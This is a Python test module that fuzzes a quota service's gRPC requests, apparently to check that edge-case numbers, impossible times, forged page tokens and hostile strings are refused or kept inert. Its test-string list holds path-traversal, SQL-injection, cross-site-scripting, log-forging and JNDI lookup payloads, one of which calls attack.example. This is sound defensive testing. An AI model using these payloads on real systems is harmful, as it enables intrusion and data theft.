"""Every field of every request, at the edges of its type and beyond: refused by its rule, or answered."""

import json
from collections.abc import Iterator
from typing import Any

import pytest
from google.protobuf.descriptor import FieldDescriptor
from google.protobuf.message import Message

from perron.api.quotas.v1 import limit_pb2, limit_service_pb2
from perron.chassis.interceptors import validation
from tests.attacks.requests import Requests, alternatives
from tests.attacks.wire import ANSWERS, Answer, assert_nothing_inside, assert_refused_properly, first
from tests.attacks.world import World
from tests.rpcs import RPCS, Rpc, is_map, is_repeated, rules

Field = FieldDescriptor
Path = tuple[str, ...]

INT32 = (-1, 0, -(2**31), 2**31 - 1)
INT64 = (-1, 0, -(2**63), 2**63 - 1, 2**53 + 1, 10**15)
NUMBERS: dict[int, tuple[float, ...]] = {
    Field.CPPTYPE_INT32: INT32,
    Field.CPPTYPE_INT64: INT64,
    Field.CPPTYPE_UINT32: (0, 2**31, 2**32 - 1),
    Field.CPPTYPE_UINT64: (0, 2**63, 2**64 - 1),
    Field.CPPTYPE_FLOAT: (-1.0, float("nan"), float("inf"), float("-inf")),
    Field.CPPTYPE_DOUBLE: (-1.0, float("nan"), float("inf"), float("-inf"), 1e308),
    Field.CPPTYPE_ENUM: (0, -1, 999, 2**31 - 1),
}
SECONDS = (-1, -62_135_596_800, -62_135_596_801, 253_402_300_799, 253_402_300_800, 2**62, -(2**63))
"""Before 1970, the years 1 and 0, 9999 and 10000, and beyond all calendars."""
NANOS = (-1, 10**9, 2**31 - 1)
"""No form of a time has them; read as a part of the sum, they do no harm."""

TEXTS = (
    "../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "%2e%2e/",
    "/etc/passwd",
    "C:\\windows\\win.ini",
    "a\0b",
    "x" * 10_000,
    "é" * 5_000,
    "\uff4f\uff52\uff47_00000000000000000000000001",  # NFKC makes it equal to an id
    "ORG_00000000000000000000000001",
    "org_00000000000000000000000001/ws_00000000000000000000000001",
    "a:b|c\x1fd",
    "line one\r\nline two: forged",
    "\x1b[2J\x1b[31mred\x1b[0m",
    "%s%n%x{0}{}${jndi:ldap://attack.example}",
    "'; DROP TABLE organizations; --",
    "\u202egnp.exe",
    "\ufeff",
    "\u2028",
    "<script>alert(1)</script>",
    " ",
)

IN_ONE_FORM = {"CreateJob", "ValidateAgentForJob"}
"""RPCs whose oneofs are all in the configuration of an agent, which CreateAgent is sent in every form."""

FORMS = [
    (rpc, alternative)
    for rpc in RPCS
    for alternative in ([0] if rpc.name in IN_ONE_FORM else alternatives(rpc))
]

each_rpc = pytest.mark.parametrize("rpc", RPCS, ids=str)
each_form = pytest.mark.parametrize(("rpc", "alternative"), FORMS, ids=str)


def key_for(world: World, rpc: Rpc) -> str | None:
    return None if rpc.access.public else world.caller(rpc.access).secret


def target_of(rpc: Rpc, request: Any) -> Any:
    """What an attack changes: the request, of a batch its only item."""
    return request.items[0] if rpc.batch_item is not None else request


def places(message: Message, path: Path = ()) -> Iterator[tuple[Path, Field]]:
    """Every field of a message and of the messages of ours in it, with the way there; of a list the first."""
    for field in message.DESCRIPTOR.fields:
        if is_map(field):
            continue
        if is_repeated(field):
            if field.message_type is None:
                yield (*path, field.name), field
            elif field.message_type.full_name.startswith("perron."):
                for first_of_all in getattr(message, field.name)[:1]:
                    yield from places(first_of_all, (*path, field.name))
        elif field.message_type is not None and field.message_type.full_name.startswith("perron."):
            if message.HasField(field.name):
                yield from places(getattr(message, field.name), (*path, field.name))
        else:
            yield (*path, field.name), field


def put(message: Any, path: Path, field: Field, value: object) -> None:
    """Sets a field, of a list its only element."""
    message = holder(message, path)
    if is_repeated(field):
        del getattr(message, path[-1])[:]
        getattr(message, path[-1]).append(value)
    else:
        setattr(message, path[-1], value)


def holder(message: Any, path: Path) -> Any:
    """The message that holds the field at the end of a way; of a list on the way, its first element."""
    for name in path[:-1]:
        message = getattr(message, name)
        message = message if isinstance(message, Message) else message[0]
    return message


def attack(world: World, rpc: Rpc, request: Any) -> tuple[Answer, bool]:
    """Sends a request; returns the answer and whether the contract's rules are broken."""
    broken = validation.check(target_of(rpc, request)) is not None or validation.check(request) is not None
    return first(rpc, world.wire.call(rpc, request, key_for(world, rpc))), broken


def is_senseless(field: Field, value: Any) -> bool:
    """Whether the contract can have no use for a value: below zero, no number, or no value of its enum.

    Below zero makes sense where the contract says so itself.
    """
    if field.cpp_type == Field.CPPTYPE_ENUM:
        return value not in field.enum_type.values_by_number
    lowest = min(0.0, rules(field).double.gte)
    return not lowest <= value < float("inf")


def judged(answer: Answer, *, broken: bool, what: str) -> None:
    """A broken rule is INVALID_ARGUMENT that does not show the value; all else is some answer."""
    if broken and not what.startswith("passport ="):  # who calls is asked before what
        assert (answer.code, answer.reason) == ("INVALID_ARGUMENT", "FIELD_INVALID"), f"{what}: {answer}"
    assert answer.code in ANSWERS, f"{what}: {answer}"
    assert_nothing_inside(answer)


@each_form
def test_numbers_at_the_edges_of_their_type_are_refused_by_their_bounds(
    rpc: Rpc, alternative: int, world: World, requests: Requests
) -> None:
    valid = requests.valid(rpc, alternative=alternative)
    for path, field in places(target_of(rpc, valid)):
        for value in NUMBERS.get(field.cpp_type, ()):
            request = requests.valid(rpc, alternative=alternative)
            put(target_of(rpc, request), path, field, value)
            answer, broken = attack(world, rpc, request)
            what = f"{'.'.join(path)} = {value}"
            assert broken or not is_senseless(field, value), f"{what} breaks no rule"
            judged(answer, broken=broken, what=what)


@each_form
def test_times_and_durations_beyond_reason_are_refused(
    rpc: Rpc, alternative: int, world: World, requests: Requests
) -> None:
    valid = requests.valid(rpc, alternative=alternative)
    for path, field in places(target_of(rpc, valid)):
        name = field.message_type.full_name if field.message_type is not None else ""
        if name not in {"google.protobuf.Timestamp", "google.protobuf.Duration"}:
            continue
        for seconds, nanos in [*((number, 0) for number in SECONDS), *((60, number) for number in NANOS)]:
            request = requests.valid(rpc, alternative=alternative)
            target = getattr(holder(target_of(rpc, request), path), path[-1])
            target.seconds, target.nanos = seconds, nanos
            answer, _ = attack(world, rpc, request)
            expected = ANSWERS if nanos else {"INVALID_ARGUMENT"}
            assert answer.code in expected, f"{'.'.join(path)} = {seconds} s {nanos} ns: {answer}"


@each_form
def test_hostile_text_is_refused_or_kept_as_text(
    rpc: Rpc, alternative: int, world: World, requests: Requests
) -> None:
    valid = requests.valid(rpc, alternative=alternative)
    for path, field in places(target_of(rpc, valid)):
        if field.cpp_type != Field.CPPTYPE_STRING:
            continue
        for text in TEXTS:
            value = text.encode() if field.type == Field.TYPE_BYTES else text
            request = requests.valid(rpc, alternative=alternative)
            put(target_of(rpc, request), path, field, value)
            answer, broken = attack(world, rpc, request)
            judged(answer, broken=broken, what=f"{'.'.join(path)} = {text[:40]!r}")


@each_rpc
def test_an_empty_request_is_judged_like_any_other(rpc: Rpc, world: World) -> None:
    request = rpc.request()

    answer = world.wire.call(rpc, request, key_for(world, rpc))

    if rpc.access.service.passport and rpc.batch_item is None:
        assert_refused_properly(answer, "UNAUTHENTICATED")
    elif validation.check(request) is not None:
        assert_refused_properly(answer, "INVALID_ARGUMENT")
    else:
        assert answer.code in ANSWERS


@pytest.mark.parametrize("rpc", [rpc for rpc in RPCS if "update_mask" in rpc.input.fields_by_name], ids=str)
def test_a_mask_names_only_what_may_be_changed(rpc: Rpc, world: World, requests: Requests) -> None:
    world.refill(world.tenant)
    outputs = {field.name for field in rpc.method.output_type.fields[0].message_type.fields}
    fixed = sorted(outputs - {field.name for field in rpc.input.fields})
    names = (*fixed, "etag", "request_id", "update_mask", "no_such", "", "*", "a.b", "../x", "x" * 5000)
    for paths in [*([name] for name in names), []]:
        request = requests.valid(rpc)
        del request.update_mask.paths[:]
        request.update_mask.paths.extend(paths)
        request.update_mask.SetInParent()
        answer = world.wire.call(rpc, request, key_for(world, rpc))
        assert_refused_properly(answer, "INVALID_ARGUMENT")


PAGED = [rpc for rpc in RPCS if "page_token" in rpc.input.fields_by_name]


@pytest.mark.parametrize("rpc", PAGED, ids=str)
def test_a_page_token_is_good_for_its_own_caller_and_question_only(
    rpc: Rpc, world: World, requests: Requests
) -> None:
    key = key_for(world, rpc)
    page = rpc.response.FromString(world.wire.call(rpc, requests.valid(rpc, page_size=1), key).body)
    genuine: str = page.next_page_token  # type: ignore[attr-defined]  # every page has one
    forged = ["x", "AAAA", "eyJhIjoxfQ", "0" * 1024, "é", genuine[:-1], genuine[1:], genuine + "A"]
    for token in filter(None, forged):
        if token == genuine:
            continue
        refused = world.wire.call(rpc, requests.valid(rpc, page_token=token), key)
        assert_refused_properly(refused, "INVALID_ARGUMENT")
        assert refused.reason == "PAGE_TOKEN_INVALID", f"{token[:20]}: {refused}"
    if not genuine:
        pytest.skip("there is one page only")
    assert world.wire.call(rpc, requests.valid(rpc, page_token=genuine, page_size=1), key).code == "OK"
    stolen = requests.valid(rpc, world.other, page_token=genuine)
    refused = world.wire.call(rpc, stolen, world.other.admin.secret)
    assert refused.code in {"INVALID_ARGUMENT", "PERMISSION_DENIED"}, str(refused)
    if "workspace_id" in rpc.input.fields_by_name:
        elsewhere = requests.valid(rpc, page_token=genuine, workspace_id=world.tenant.spare["workspace_id"])
        refused = world.wire.call(rpc, elsewhere, key)
        # A key that reaches one workspace only finds none there to list.
        assert refused.reason in {"PAGE_TOKEN_INVALID", "RESOURCE_NOT_FOUND"}, str(refused)


@pytest.mark.parametrize("rpc", PAGED, ids=str)
def test_a_page_size_is_refused_below_zero_and_bounded_above(
    rpc: Rpc, world: World, requests: Requests
) -> None:
    key = key_for(world, rpc)

    assert_refused_properly(world.wire.call(rpc, requests.valid(rpc, page_size=-1), key), "INVALID_ARGUMENT")
    assert world.wire.call(rpc, requests.valid(rpc, page_size=10**9), key).code == "OK"
    assert world.wire.call(rpc, requests.valid(rpc, page_size=0), key).code == "OK"


def test_two_names_that_differ_only_after_joining_stay_two(world: World) -> None:
    """A counter, a page or a digest keyed by joined texts would confuse them."""
    caps = [
        ("joined-1", 11),
        ("joined-1:minute", 12),
        ("joined-1/minute", 13),
        ("JOINED-1", 14),
        ("joined-1@", 15),
    ]
    for model, amount in caps:
        request = limit_service_pb2.SetCapRequest(
            organization_id=world.tenant.organization_id,
            model=model,
            metric=limit_pb2.METRIC_REQUESTS,
            window=limit_pb2.WINDOW_MINUTE,
            amount=amount,
        )
        world.wire.ask("LimitService.SetCap", request, world.tenant.admin.secret)
    wanted = limit_service_pb2.ListLimitsRequest(organization_id=world.tenant.organization_id)
    listed = world.wire.ask("LimitService.ListLimits", wanted, world.tenant.admin.secret).limits

    kept = {(limit.model, limit.amount) for limit in listed if limit.model.lower().startswith("joined")}
    assert kept == set(caps)


def test_logs_stay_one_line_for_each_event_whatever_was_sent(world: World, requests: Requests) -> None:
    for rpc in RPCS:
        for field in rpc.input.fields:
            if field.type == Field.TYPE_STRING and not is_repeated(field) and rpc.batch_item is None:
                request = requests.valid(rpc, **{field.name: "one\r\ntwo\x1b[31m\u2028three"})
                world.wire.call(rpc, request, key_for(world, rpc))

    for log in (world.suite.folder / "logs").glob("*.log"):
        for line in log.read_text("utf-8").split("\n"):
            assert not line or is_event(line), f"{log.name}: {line[:300]!r}"


def is_event(line: str) -> bool:
    """Whether a line of a log is one event as JSON, its control characters escaped."""
    try:
        return isinstance(json.loads(line), dict) and line.isprintable()
    except ValueError:
        return False
